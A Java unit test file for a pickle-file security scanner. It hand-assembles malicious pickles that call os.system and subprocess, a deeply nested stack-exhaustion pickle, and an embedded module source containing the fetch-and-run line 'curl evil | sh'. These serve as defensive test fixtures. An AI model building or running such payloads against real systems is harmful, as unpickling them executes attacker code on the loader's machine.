package dev.finetoon.io.pickle;

import static org.assertj.core.api.Assertions.assertThat;

import dev.finetoon.testing.ReferenceData;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class PickleScanTest {
  @ParameterizedTest
  @ValueSource(strings = {"tiny_base.pkl", "tiny_toon.pkl"})
  void nvidiasFilesAreClean(String file) throws IOException {
    PickleScan scan = PickleScan.of(ReferenceData.tiny(file));

    assertThat(scan.isDangerous()).isFalse();
    assertThat(scan.error()).isEmpty();
    assertThat(scan.globals()).allMatch(g -> g.verdict() == PickleScan.Verdict.KNOWN);
    assertThat(scan.globals()).extracting(PickleScan.Global::name)
        .contains("torch_utils.persistence._reconstruct_persistent_obj", "torch._utils._rebuild_tensor_v2");
    assertThat(scan.sources()).extracting(PickleScan.EmbeddedSource::className).contains("Generator", "SynthesisLayer");
    assertThat(scan.findings()).isEmpty();
  }

  @Test
  void listsEveryGlobalOfAnExploitInsteadOfStoppingAtTheFirst() {
    // {'a': os.system('touch x'), 'b': subprocess.check_output('id'), 'c': some.Unknown()} in protocol 2.
    Pickle p = new Pickle().proto().op('}').op('(');
    p.str("a").global("os", "system").str("touch x").op('\u0085').op('R');
    p.str("b").global("subprocess", "check_output").str("id").op('\u0085').op('R');
    p.str("c").global("some", "Unknown").op(')').op('R');
    PickleScan scan = PickleScan.of(p.op('u').op('.').bytes(), "exploit");

    assertThat(scan.isDangerous()).isTrue();
    assertThat(scan.globals())
        .containsExactly(
            new PickleScan.Global("os.system", PickleScan.Verdict.DANGEROUS),
            new PickleScan.Global("subprocess.check_output", PickleScan.Verdict.DANGEROUS),
            new PickleScan.Global("some.Unknown", PickleScan.Verdict.UNKNOWN));
    assertThat(scan.findings()).anyMatch(f -> f.contains("os.system")).anyMatch(f -> f.contains("some.Unknown"));
  }

  @Test
  void flagsEmbeddedSourceThatPythonWouldExecute() {
    // A persistent Generator whose module_src runs a shell command when Python imports it.
    Pickle p = new Pickle().proto().global("torch_utils.persistence", "_reconstruct_persistent_obj");
    p.op('}').op('(');
    p.str("type").str("class").str("class_name").str("Generator");
    p.str("module_src").str("import torch\nimport os\nos.system('curl evil | sh')\nclass Generator: pass\n");
    p.str("state").op('}');
    PickleScan scan = PickleScan.of(p.op('u').op('\u0085').op('R').op('.').bytes(), "payload");

    assertThat(scan.globals()).allMatch(g -> g.verdict() == PickleScan.Verdict.KNOWN);
    assertThat(scan.isDangerous()).isTrue();
    assertThat(scan.sources()).singleElement().satisfies(s -> {
      assertThat(s.className()).isEqualTo("Generator");
      assertThat(s.suspicious()).contains("imports os", "reaches os.system");
    });
  }

  @Test
  void scansDeeplyNestedContainersWithoutOverflowingTheStack() {
    // 200 000 MARKs then as many LISTs: a list nested 200 000 deep.
    Pickle p = new Pickle().proto();
    for (int i = 0; i < 200_000; i++) {
      p.op('(');
    }
    for (int i = 0; i < 200_000; i++) {
      p.op('l');
    }
    PickleScan scan = PickleScan.of(p.op('.').bytes(), "deep");

    assertThat(scan.error()).isEmpty();
    assertThat(scan.isDangerous()).isFalse();
  }

  /** Just enough of a pickle assembler for these tests. */
  private static final class Pickle {
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();

    Pickle proto() {
      out.write(0x80);
      out.write(2);
      return this;
    }

    Pickle op(char code) {
      out.write(code);
      return this;
    }

    Pickle global(String module, String name) {
      out.writeBytes(("c" + module + "\n" + name + "\n").getBytes(StandardCharsets.UTF_8));
      return this;
    }

    Pickle str(String s) {
      byte[] utf8 = s.getBytes(StandardCharsets.UTF_8);
      out.write('X');
      for (int i = 0; i < 4; i++) {
        out.write(utf8.length >>> (8 * i));
      }
      out.writeBytes(utf8);
      return this;
    }

    byte[] bytes() {
      return out.toByteArray();
    }
  }
}
